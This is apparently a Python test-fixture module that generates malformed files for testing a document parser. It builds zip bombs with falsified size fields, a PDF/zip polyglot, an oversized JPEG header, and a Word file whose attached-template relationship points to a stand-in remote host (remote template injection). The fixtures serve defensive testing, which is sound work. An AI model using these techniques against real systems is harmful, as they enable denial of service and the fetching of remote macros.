"""Files made to do harm, or to look as if."""

from __future__ import annotations

import io
import struct
import zipfile


def picture(*, width: int = 4) -> bytes:
    chunks = [(b"IHDR", struct.pack(">II", width, 4) + b"\x08\x02\0\0\0"), (b"IDAT", b""), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(body).to_bytes(4, "big") + name + body + b"\0" * 4 for name, body in chunks
    )


def packed(**entries: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w/>")
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    """Return a document that says it unpacks to more than any document does."""
    made = bytearray(packed(a=b"\0" * 1000))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (4_000_000_000).to_bytes(4, "little")
    return bytes(made)


def lying_bomb() -> bytes:
    """Return a document one of whose parts says that it has ten bytes, and has millions."""
    made = bytearray(packed(a=b"\0" * 5_000_000))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(made)


def begins_as_pdf() -> bytes:
    """Return a document whose first part is a whole PDF, not packed: a reader of PDF opens it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a", b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF")
        archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


def with_remote_template() -> bytes:
    """Return a document that fetches its template, macros included, from elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = f'<Relationships><Relationship Id="a" Type="{kind}" Target="http://example.invalid/x" TargetMode="External"/></Relationships>'
    return packed(**{"word/_rels/settings.xml.rels": rels.encode("utf-16")})


def twice_sized() -> bytes:
    """Return a photograph of a few pixels that says at its second frame that it has billions."""
    frame = b"\xff\xc0\0\x0b\x08%b\x01\x01\x11\0"
    small, large = (struct.pack(">HH", size, size) for size in (4, 60_000))
    return b"\xff\xd8" + frame % small + frame % large + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0\xff\xd9"
